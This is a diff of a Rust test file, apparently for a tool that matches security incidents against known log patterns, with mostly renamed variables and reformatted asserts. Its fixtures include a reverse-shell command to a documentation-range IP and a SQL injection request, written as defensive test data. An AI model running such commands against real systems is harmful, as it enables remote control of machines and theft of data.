@@ -89,7 +89,7 @@ fn whoever_is_new_is_not() {
             &[KNOWN[0], "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1"],
         ),
         (
-            "a deed told by folded letters",
+            "an activity in folded letters",
             &[KNOWN[0], "GET /index.php?id=1 UNION SELECT name FROM users"],
         ),
         (
@@ -99,8 +99,8 @@ fn whoever_is_new_is_not() {
     ] {
         assert!(!lesson.covers(&of("Brute force of admin", lines)), "{who}");
     }
-    let said = of("Brute force from 198.51.100.7 against 192.0.2.10", &KNOWN);
-    assert!(!lesson.covers(&said), "only in words");
+    let only_words = of("Brute force from 198.51.100.7 against 192.0.2.10", &KNOWN);
+    assert!(!lesson.covers(&only_words), "only in words");
     let host = of("Brute force on db-07", &KNOWN);
     assert!(
         !lesson.covers(&host),
@@ -165,5 +165,10 @@ fn what_is_stored_still_tells_the_parts() {
         "Brute force",
         &["Failed password for admin from 192.0.2.10 port 515 ssh2"],
     );
-    assert!(lesson.stranger(&turned).unwrap().contains("another role"));
+    assert!(
+        lesson
+            .unknown_entity(&turned)
+            .unwrap()
+            .contains("another role")
+    );
 }
